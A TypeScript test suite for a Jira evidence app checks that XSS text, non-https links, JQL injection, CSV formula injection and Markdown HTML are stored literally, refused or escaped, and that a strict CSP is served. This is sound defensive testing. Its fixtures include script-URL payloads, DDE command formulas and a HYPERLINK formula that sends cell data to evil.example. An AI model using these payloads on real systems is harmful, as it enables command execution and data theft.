import { readdirSync, readFileSync, existsSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { createJiraClient } from '../../src/jira/create-client';
import { startPreview } from '../../src/preview/server';
import { CONTENT_SECURITY_POLICY, SECURITY_HEADERS } from '../../src/preview/security-headers';
import { EVIDENCE_PROPERTY_KEY, LIMITS } from '../../src/shared/evidence';
import type { PanelData, SettingsData } from '../../src/shared/payloads';
import type { ScopeReport } from '../../src/shared/report';
import type { Envelope } from '../../src/shared/result';
import { REFUSED_URLS, XSS_VECTORS } from './hostile-vectors';
import { printFigures, resolverHarness, TODAY, validEvidence } from './support';

/**
 * Hostile text in evidence and settings: stored and answered back exactly
 * as typed (the front ends show it as text; see hostile-browser.test.ts),
 * and links that are not plain https:// refused before anything is written.
 */

const figures = { xssVectors: XSS_VECTORS.length, xssStores: 0, refusedUrls: REFUSED_URLS.length };
afterAll(() => printFigures('hostile-content', figures));

const data = <T>(envelope: Envelope<unknown>): T => {
  if (!envelope.ok) throw new Error(`expected ok, got ${JSON.stringify(envelope.error)}`);
  return envelope.data as T;
};

describe('evidence text fields hold hostile text literally', () => {
  it.each(XSS_VECTORS.map((v, i) => [i, v] as const))('vector %i is stored and answered back unchanged in every text field', async (_i, vector) => {
    const h = resolverHarness();
    const evidence = validEvidence({
      summary: `Observed: ${vector}`,
      source: { name: vector, role: vector, site: vector },
    });
    const panel = data<PanelData>(await h.as('priya')('addEvidence', { issueKey: 'CLIN-7', evidence }));
    figures.xssStores += 1;
    const stored = panel.assessment.evidence.find((e) => e.summary === `Observed: ${vector}`);
    expect(stored).toBeDefined();
    expect(stored?.source).toEqual({ name: vector, role: vector, site: vector });
    // Sources are counted by name: the hostile name is one distinct source like any other.
    const again = data<PanelData>(await h.as('sam')('getPanel', { issueKey: 'CLIN-7' }));
    expect(again.assessment.evidence.map((e) => e.source.name)).toContain(vector);
    // The issue property holds the same characters (JSON-escaped, nothing stripped or doubled).
    expect(h.site.dump()).toContain(JSON.stringify(vector).slice(1, -1));
  });

  it('an edit with hostile text replaces the summary literally, and removing it can be undone', async () => {
    const h = resolverHarness();
    const vector = XSS_VECTORS[1] as string;
    const added = data<PanelData>(await h.as('priya')('addEvidence', { issueKey: 'CLIN-8', evidence: validEvidence() }));
    const id = added.assessment.evidence[0]?.id as string;
    const edited = data<PanelData>(await h.as('priya')('editEvidence', { issueKey: 'CLIN-8', id, evidence: validEvidence({ summary: vector }) }));
    expect(edited.assessment.evidence.find((e) => e.id === id)?.summary).toBe(vector);
    const removed = data<PanelData>(await h.as('priya')('removeEvidence', { issueKey: 'CLIN-8', id }));
    expect(removed.removed).toEqual([expect.objectContaining({ id, summary: vector })]);
    figures.xssStores += 1;
  });

  it('text at the limit is accepted; one character over, or a megabyte, is refused with the field named and nothing written', async () => {
    const h = resolverHarness();
    const atLimit = 'x'.repeat(LIMITS.summary);
    expect((await h.as('priya')('addEvidence', { issueKey: 'CLIN-9', evidence: validEvidence({ summary: atLimit }) })).ok).toBe(true);
    const before = h.site.dump();
    for (const summary of ['x'.repeat(LIMITS.summary + 1), 'x'.repeat(1_000_000)]) {
      const envelope = await h.as('priya')('addEvidence', { issueKey: 'CLIN-9', evidence: validEvidence({ summary }) });
      expect(envelope).toEqual({ ok: false, error: expect.objectContaining({ code: 'BAD_PAYLOAD' }) });
      if (!envelope.ok) expect(envelope.error.issues?.map((i) => i.path.join('.'))).toContain('evidence.summary');
    }
    const name = await h.as('priya')('addEvidence', {
      issueKey: 'CLIN-9',
      evidence: validEvidence({ source: { name: 'n'.repeat(LIMITS.sourceName + 1) } }),
    });
    expect(name.ok).toBe(false);
    expect(h.site.dump()).toBe(before);
  });
});

describe('links that are not plain https:// are refused', () => {
  it.each(REFUSED_URLS.map((u) => [JSON.stringify(u).slice(0, 60), u] as const))('addEvidence refuses %s: BAD_PAYLOAD at evidence.url, nothing written', async (_label, url) => {
    const h = resolverHarness();
    const before = h.site.dump();
    const envelope = await h.as('alex')('addEvidence', { issueKey: 'CLIN-7', evidence: validEvidence({ url }) });
    expect(envelope.ok).toBe(false);
    if (!envelope.ok) {
      expect(envelope.error.code).toBe('BAD_PAYLOAD');
      expect(envelope.error.issues?.map((i) => i.path.join('.'))).toContain('evidence.url');
    }
    const edit = await h.as('alex')('editEvidence', { issueKey: 'CLIN-1', id: 'ev-clin-1-1', evidence: validEvidence({ url }) });
    expect(edit.ok).toBe(false);
    expect(h.site.dump()).toBe(before);
  });

  it('a plain https:// link is accepted (the refusals are about the link, not the form)', async () => {
    const h = resolverHarness();
    expect((await h.as('alex')('addEvidence', { issueKey: 'CLIN-7', evidence: validEvidence({ url: 'https://research.example.org/a?b=c#d' }) })).ok).toBe(true);
  });

  it('a javascript: link written into the issue property behind the app’s back is never answered as evidence', async () => {
    const h = resolverHarness();
    const client = createJiraClient(h.site.transport('alex'), { sleep: async () => undefined });
    const record = (id: string, url: string) => ({
      id,
      kind: 'interview',
      url,
      source: { name: 'Someone' },
      observedOn: '2026-10-01',
      summary: `planted ${id}`,
      addedBy: 'x',
      addedAt: '2026-10-01T00:00:00Z',
    });
    await client.setIssueProperty('CLIN-7', EVIDENCE_PROPERTY_KEY, {
      schemaVersion: 2,
      revision: 1,
      records: [record('bad-1', 'javascript:alert(1)'), record('bad-2', 'data:text/html,<script>alert(1)</script>'), record('good', 'https://ok.example.org/')],
    });
    const panel = data<PanelData>(await h.as('alex')('getPanel', { issueKey: 'CLIN-7' }));
    // Planted outside the app, the readable record is unsigned: shown under "Not counted", never as evidence.
    expect(panel.assessment.evidence).toEqual([]);
    const urls = panel.untrusted.map((u) => u.record.url);
    expect(urls).toEqual(['https://ok.example.org/']);
    const report = data<ScopeReport>(await h.as('alex')('getScopeReport', { scope: { kind: 'project', projectKey: 'CLIN' }, pi: 'next' }));
    for (const item of report.items) for (const e of item.evidence) expect(e.url === undefined || e.url.startsWith('https://')).toBe(true);
  });
});

describe('settings text fields hold hostile text literally', () => {
  it('issue type names and PI calendar names with XSS vectors are saved and read back unchanged', async () => {
    const h = resolverHarness();
    const names = XSS_VECTORS.slice(0, 10);
    const settings = {
      workItemTypes: ['Epic', ...names.slice(0, 5)],
      objectives: { issueTypes: ['Objective', ...names.slice(5, 10)] },
      pi: { source: 'labelPrefix', prefix: '<b>PI-</b>', calendar: [{ name: names[0], startDate: '2026-10-01', endDate: '2026-12-31' }] },
    };
    const saved = data<SettingsData>(await h.as('alex')('saveSettings', { projectKey: 'CLIN', settings }));
    expect(saved.settings.workItemTypes).toEqual(settings.workItemTypes);
    const read = data<SettingsData>(await h.as('priya')('getSettings', { projectKey: 'CLIN' }));
    expect(read.settings.objectives.issueTypes).toEqual(settings.objectives.issueTypes);
    expect(read.settings.pi).toEqual(expect.objectContaining({ prefix: '<b>PI-</b>' }));
    figures.xssStores += 1;
  });

  it('a quote in an issue type name cannot widen the search (JQL injection): the scope keeps only its own items', async () => {
    const h = resolverHarness();
    const plain = data<ScopeReport>(await h.as('sam')('getScopeReport', { scope: { kind: 'project', projectKey: 'CLIN' }, pi: 'next' }));
    const injected = 'Epic") OR project is not EMPTY OR issuetype in ("Epic';
    const saved = await h.as('alex')('saveSettings', { projectKey: 'CLIN', settings: { workItemTypes: [injected] } });
    expect(saved.ok).toBe(true);
    const envelope = await h.as('sam')('getScopeReport', { scope: { kind: 'project', projectKey: 'CLIN' }, pi: 'next' });
    if (envelope.ok) {
      const report = envelope.data as ScopeReport;
      for (const item of report.items) expect(item.projectKey).toBe('CLIN');
      expect(report.total).toBeLessThanOrEqual(plain.total);
      expect(report.jql).toContain('\\"');
    } else {
      expect(envelope.error.code).toBe('JIRA_BAD_REQUEST');
    }
  });
});

describe('what the preview serves', () => {
  const root = resolve(__dirname, '..', '..');

  it('the Content-Security-Policy allows scripts from self only: no unsafe-inline or unsafe-eval in script-src', () => {
    const directives = new Map(
      CONTENT_SECURITY_POLICY.split(';').map((d) => {
        const [name, ...values] = d.trim().split(/\s+/);
        return [name ?? '', values] as const;
      }),
    );
    const scriptSrc = directives.get('script-src') ?? directives.get('default-src') ?? [];
    expect(scriptSrc).toEqual(["'self'"]);
    expect(directives.get('object-src')).toEqual(["'none'"]);
    expect(SECURITY_HEADERS['X-Content-Type-Options']).toBe('nosniff');
  });

  it('the preview server sends that policy on every page and API answer', async () => {
    const preview = await startPreview({ port: 0, host: '127.0.0.1', today: TODAY, build: false, quiet: true });
    try {
      for (const path of ['', 'issue-panel/', 'gadget/', 'settings/', 'api/invoke']) {
        const res = await fetch(`${preview.url}${path}`, path === 'api/invoke' ? { method: 'POST', body: '{}', headers: { 'Content-Type': 'application/json' } } : {});
        await res.arrayBuffer();
        const csp = res.headers.get('content-security-policy') ?? '';
        const scriptSrc = /(?:^|;)\s*script-src([^;]*)/.exec(csp)?.[1] ?? '';
        expect({ path, scriptSrc: scriptSrc.trim() }).toEqual({ path, scriptSrc: "'self'" });
        expect(csp).not.toMatch(/unsafe-eval/);
      }
    } finally {
      await preview.close();
    }
  });

  const builtPages = (): string[] =>
    readdirSync(join(root, 'static'), { withFileTypes: true })
      .filter((d) => d.isDirectory())
      .flatMap((d) => ['build', 'preview-build'].map((b) => join(root, 'static', d.name, b, 'index.html')))
      .filter((p) => existsSync(p));

  it('no built index.html holds an inline <script> or an inline event handler', () => {
    const pages = builtPages();
    if (pages.length === 0) {
      console.warn('No built front ends found (run FG_PREVIEW=1 node static/build.mjs): nothing to check');
      return;
    }
    for (const page of pages) {
      let html: string;
      try {
        html = readFileSync(page, 'utf8');
      } catch {
        continue; // a build running in parallel replaced it
      }
      const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
      for (const [, attrs, body] of scripts) {
        expect({ page, attrs, hasSrc: /\bsrc\s*=/.test(attrs ?? '') }).toEqual({ page, attrs, hasSrc: true });
        expect({ page, body: (body ?? '').trim() }).toEqual({ page, body: '' });
      }
      expect({ page, handlers: html.match(/\son[a-z]+\s*=/gi) ?? [] }).toEqual({ page, handlers: [] });
      expect({ page, jsUrls: html.match(/javascript:/gi) ?? [] }).toEqual({ page, jsUrls: [] });
    }
  });
});

describe('hostile issue summaries in the CLI’s output', () => {
  const hostile = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', '+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0', '<script>alert(1)</script> | pipe', '-2+3'];

  /** A snapshot of the sample site whose search answers carry hostile summaries. */
  const hostileSnapshot = async (): Promise<string> => {
    const { main } = await import('../../src/cli/main');
    const files = new Map<string, string>();
    const io = {
      stdout: () => undefined,
      stderr: () => undefined,
      env: {},
      readFile: async (p: string) => files.get(p) ?? Promise.reject(new Error('ENOENT')),
      writeFile: async (p: string, t: string) => {
        files.set(p, t);
      },
      now: () => new Date(`${TODAY}T09:00:00Z`),
    };
    expect(await main(['snapshot', '--sample', '--project', 'CLIN', '--pi', 'next', '--today', TODAY, '--out', 's.json'], io)).toBe(0);
    const snapshot = JSON.parse(files.get('s.json') ?? '{}') as { exchanges: { request: { path: string }; response: { body?: { issues?: { fields?: { summary?: string } }[] } } }[] };
    let n = 0;
    for (const ex of snapshot.exchanges) {
      if (ex.request.path !== '/rest/api/3/search/jql') continue;
      for (const issue of ex.response.body?.issues ?? []) {
        if (issue.fields?.summary !== undefined) {
          issue.fields.summary = hostile[n % hostile.length] as string;
          n += 1;
        }
      }
    }
    expect(n).toBeGreaterThanOrEqual(hostile.length);
    return JSON.stringify(snapshot);
  };

  const scan = async (snapshot: string, format: string) => {
    const { main } = await import('../../src/cli/main');
    let out = '';
    let err = '';
    const code = await main(['scan', '--snapshot', 's.json', '--format', format], {
      stdout: (t) => (out += t),
      stderr: (t) => (err += t),
      env: {},
      readFile: async () => snapshot,
      writeFile: async () => undefined,
      now: () => new Date(`${TODAY}T09:00:00Z`),
    });
    expect({ code, err }).toEqual({ code: 0, err: '' });
    return out;
  };

  it('CSV: no cell starts with a formula character (= + - @), the text is kept after a quote', async () => {
    const out = await scan(await hostileSnapshot(), 'csv');
    const cells = out.split('\r\n').flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? []);
    for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
    expect(out).toContain("'=HYPERLINK(");
    expect(out).toContain("'+cmd|");
  });

  it('Markdown: HTML and table pipes in summaries are escaped', async () => {
    const out = await scan(await hostileSnapshot(), 'markdown');
    expect(out).not.toContain('<script>');
    expect(out).toContain('\\<script\\>');
    for (const row of out.split('\n').filter((l) => l.startsWith('|') && l.includes('script'))) {
      expect(row).toContain('\\|');
    }
  });
});
